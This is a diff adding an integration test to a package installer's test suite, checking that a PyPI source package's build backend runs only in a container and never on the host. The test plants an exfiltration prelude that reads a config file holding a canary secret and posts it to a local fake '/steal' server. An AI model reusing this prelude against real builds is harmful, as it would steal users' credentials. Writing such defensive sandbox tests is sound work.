@@ -13,6 +13,7 @@ mounted), so on the host there is no marker and the exfil server hears nothing.
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import os
 from collections.abc import Iterator
@@ -29,7 +30,7 @@ from tests.integration.install.test_recipe_errors import local_recipe
 from tsukud.testing.crates import FakeCratesIo, crate
 from tsukud.testing.gems import FakeRubyGems, build_gem
 from tsukud.testing.http import FakeHTTPServer, RecordedRequest, Reply
-from tsukud.testing.packages import npm_tarball
+from tsukud.testing.packages import npm_tarball, sdist, wheel
 
 SECRET = "sk-ant-api03-exfil-canary-0123456789abcdef"
 
@@ -223,3 +224,38 @@ def test_an_install_scripts_files_outside_the_tool_do_not_outlive_it(
     assert cp.returncode == 0, cp.stderr
     assert not persist.exists()
     assert tree(t.home) == []
+
+
+def test_a_pypi_build_backend_does_not_run_on_the_host_before_approval(
+    eco_inst: Tsuku, eco: FakeEcosystems, exfil: FakeHTTPServer, tmp_path: Path
+) -> None:
+    """A project whose only wheel is Windows-only: the builder does not read its
+    commands from that wheel (it is not what this host installs) but from the source
+    package's pyproject.toml, as text; pip builds the source package (its in-tree
+    build backend runs) only in the container, and the result is never "passed … in
+    host prefix"."""
+    t = eco_inst
+    config = with_secret(t)
+    marker = tmp_path / "backend-ran"
+    prelude = (
+        "import urllib.request\n"
+        f"try:\n    open({str(marker)!r}, 'w').write('backend ran')\nexcept OSError:\n    pass\n"
+        f"try:\n    data = open({str(config)!r}, 'rb').read()\nexcept OSError:\n    data = b''\n"
+        "try:\n"
+        f"    urllib.request.urlopen('http://127.0.0.1:{exfil.port}/steal', data, timeout=5)\n"
+        "except Exception:\n    pass\n"
+    )
+    win = wheel("fmtp", "1.0", {"fmtp": "fmtp 1.0"})
+    eco.publish_wheel(
+        dataclasses.replace(win, file_name=win.file_name.replace("-any.whl", "-win_amd64.whl"))
+    )
+    eco.publish_sdist(sdist("fmtp", "1.0", {"fmtp": "fmtp 1.0"}, prelude=prelude))
+    cp = t.ctl("create", "fmtp", "--from", "pypi:fmtp", "--json")
+    assert not marker.exists(), "the build backend ran on the host"
+    assert stolen(exfil) == []
+    assert cp.returncode == 0, cp.stderr
+    res = json.loads(cp.stdout)
+    assert res["validation"]["status"] == "passed", res["validation"]
+    assert "host prefix" not in res["validation"]["image"]
+    assert "container" in res["validation"]["image"]
+    assert "fmtp" in res["recipe"] and "-win_amd64.whl" not in " ".join(eco.paths())
